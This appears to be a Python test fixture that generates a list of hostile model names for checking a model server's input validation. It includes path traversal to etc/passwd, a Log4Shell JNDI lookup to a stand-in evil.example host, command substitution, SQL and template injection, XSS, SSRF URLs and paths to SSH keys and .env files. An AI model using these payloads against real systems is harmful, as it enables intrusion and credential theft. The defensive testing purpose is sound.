"""Names that try to be something else: 200 and more, in the forms that became paths, files or commands elsewhere."""

from __future__ import annotations

from itertools import product

_TRAVERSAL = [
    f"{up * count}{end}"
    for up, count, end in product(
        (
            "../",
            "..\\",
            "..;/",
            "....//",
            "%2e%2e/",
            "..%2f",
            "%2e%2e%2f",
            "..%252f",
            "..%c0%af",
            "%c0%ae%c0%ae/",
            "..%u2215",
        ),
        (1, 3),
        ("etc/passwd", "models", "v2/health", ""),
    )
]
_CONTROL = [f"double{character}x" for character in map(chr, [*range(32), 127])]
_MARKS = [
    *("double/", "/double", "double//", "//double", "./double", "double/.", "double/..", "double;x=1", "double?x=1"),
    *("double#x", "double%00", "double%00.mar", "double%0d%0aX-A: b", "double%20", "double ", " double", "double\\"),
    *(
        "double:predict",
        "double%3apredict",
        "double@",
        "@double",
        "double@tensorflow@pytorch",
        "double@@",
        "double@nope",
    ),
    *("double@../x", "double@pytorch/../x", "double/versions/../1", "double/versions/-1", "double/versions/1e9"),
    *("double/versions/99999999999999999999", "double/versions/0x1", "double/versions/\u0661", "double/versions/ 1"),
    *("double/labels/../x", "double/1/../../models", "Double", "DOUBLE", "doubl\u0435", "double\u200b", "\u202edouble"),
    *(
        "dou\u00adble",
        "\ufeffdouble",
        "doub\u013fe",
        "*",
        "doubl?",
        "d*",
        "[d]ouble",
        "{double}",
        "(double)",
        "^double$",
    ),
    *(".*", "double|x", "double&x", "double`id`", "$(id)", "${jndi:ldap://evil.example/a}", "{{7*7}}", "<%= 7 %>"),
    *(
        "%s%s%s%n",
        "{0.__class__}",
        "__proto__",
        "constructor",
        "__class__",
        "None",
        "null",
        "undefined",
        "NaN",
        "0",
        "-1",
    ),
    *("true", "' OR 1=1 --", '"; DROP TABLE models; --', "<script>alert(1)</script>", "http://evil.example/m.mar"),
    *(
        "file:///etc/passwd",
        "gopher://127.0.0.1:8081/_",
        "127.0.0.1:8081",
        "localhost",
        "[::1]",
        "CON",
        "NUL",
        "aux.mar",
    ),
    *(
        "~root",
        "~/.ssh/id_rsa",
        ".",
        "..",
        "...",
        ".git",
        ".env",
        "stats",
        "ready",
        "infer",
        "all",
        "models",
        "metrics",
    ),
    *(
        "key_file.json",
        "config.properties",
        "a" * 65,
        "a" * 300,
        "a" * 1900,
        "\u00e9" * 100,
        "%",
        "%%",
        "%zz",
        "%2",
        "%u0064",
    ),
    *("d%6fuble/../x", "%64ouble%2f..%2fx", "double%5c..", "double%ff", "\U0001f600", "\u0000", "double\x0b", "\x7f"),
]

#: None of them is a model, and none may reach a server, whatever becomes of it on the way.
NAMES = list(dict.fromkeys([*_TRAVERSAL, *_CONTROL, *_MARKS]))
